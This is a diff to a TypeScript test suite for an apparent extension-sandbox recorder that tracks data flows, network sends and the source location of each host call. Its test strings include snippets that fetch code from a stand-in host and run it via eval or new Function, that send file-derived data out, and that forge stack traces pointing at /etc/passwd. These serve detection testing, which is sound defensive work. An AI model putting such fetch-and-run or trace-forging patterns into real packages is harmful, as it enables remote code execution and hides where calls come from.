@@ -36,6 +36,8 @@ for (const { engine, skip } of ENGINES_HERE) {
         assert.deepEqual(sent.map(({ canaries }) => canaries), [['file']], made);
         assert.match(JSON.stringify(sent[0]!.args), /<file>/i, 'and told by its kind');
       }
+      const { attempts, console } = await recorded('const text = await host.files.read("x"); require(`${text}`); console.log(`${text}`);');
+      assert.deepEqual([attempts, console], [[{ kind: 'module', name: '<file>' }], [{ level: 'log', text: '<file>' }]]);
       const { sent } = await recorded('const text = await host.files.read("x"); await host.net.fetch("https://a.example", { body: text ? "yes" : "no" });');
       assert.deepEqual(sent.map(({ canaries, args }) => [canaries, args]), [[[], ['https://a.example', { body: 'yes' }]]]);
     });
@@ -49,7 +51,7 @@ for (const { engine, skip } of ENGINES_HERE) {
     test('runs as code: told once, by whatever way', async () => {
       for (const run of ['new Function(code)()', '(0, eval)(`(function () { ${code} })()`)', 'setTimeout(() => Function("x", `return ${code}`)(1), 5)']) {
         const { ran } = await recorded(`const code = await (await host.net.fetch("https://a.example")).text(); ${run}; ${run};`);
-        assert.deepEqual(ran, ['answer'], run);
+        assert.deepEqual(ran.map(({ kind, place }) => [kind, place?.file, place?.line]), [['answer', 'main.js', 1]], run);
       }
       assert.deepEqual((await recorded('const code = await host.net.fetch("https://a.example"); JSON.parse(code); new Function("return 1")();')).ran, []);
     });
@@ -70,6 +72,23 @@ for (const { engine, skip } of ENGINES_HERE) {
       const { calls, sent } = await recorded('for (let turn = 0; turn < 3; turn++) host.message.send(await host.clip.read()); host.events.onChange(({ value }) => typeof value === "string" && host.net.fetch(value));');
       assert.deepEqual(calls.filter(({ method }) => method === 'message.send').map(({ args }) => args), [['first'], ['second'], ['first']]);
       assert.deepEqual(sent.map(({ args }) => args), [['DE1']]);
+    });
+
+    test('each call tells where the package makes it, in modules of both kinds', async () => {
+      const sandbox = await sandboxOf({ engine, limits: { deadlineMs: 4_000 } });
+      const placesOf = async (files: Record<string, string>) => {
+        const [recording] = await recordingRun(sandbox, packageOf(files, { entry_points: [Object.keys(files)[0]!] }), API);
+        return recording!.report.calls.map(({ method, place }) => `${method} ${place?.file}:${place?.line}`);
+      };
+      const commonJs = await placesOf({ 'main.js': 'const lib = require("./lib/send");\n\nexports.activate = async (host) => {\n  await host.keys.list();\n  await lib.send(host);\n  new Function("host", "\\n\\nhost.clip.read()")(host);\n};', 'lib/send.js': '// one\n// two\nexports.send = (host) => host.net.fetch("https://a.example");\n' });
+      assert.deepEqual(commonJs, ['keys.list main.js:4', 'net.fetch lib/send.js:3', 'clip.read main.js:6']);
+      const modules = await placesOf({ 'main.mjs': 'import { send } from "./lib/send.mjs";\nexport const activate = (host) =>\n  send(host);\n', 'lib/send.mjs': '\nexport const send = (host) => host.net.fetch("https://a.example");\n' });
+      assert.deepEqual(modules, ['net.fetch lib/send.mjs:2']);
+      const forged = await placesOf({ 'main.js': 'exports.activate = (host) => { Error.prepareStackTrace = () => "at x (../../etc/passwd:1:1)"; globalThis.Error = class { stack = "at x (no.js:0:0)"; }; host.keys.list(); };' });
+      assert.ok(['keys.list main.js:1', 'keys.list undefined:undefined'].includes(forged[0]!), forged[0]);
+      const sparse = await sandboxOf({ engine, limits: { deadlineMs: 4_000, paddedLines: 10 } });
+      const [recording] = await recordingRun(sparse, packageOf({ 'main.js': 'exports.activate = (host) => host.keys.list();' }, { entry_points: ['main.js'] }), API);
+      assert.deepEqual(recording!.report.calls.map(({ method }) => method), ['keys.list'], 'without places it runs all the same');
     });
 
     test('what code asks first lets it go on; paths are put together of their texts', async () => {
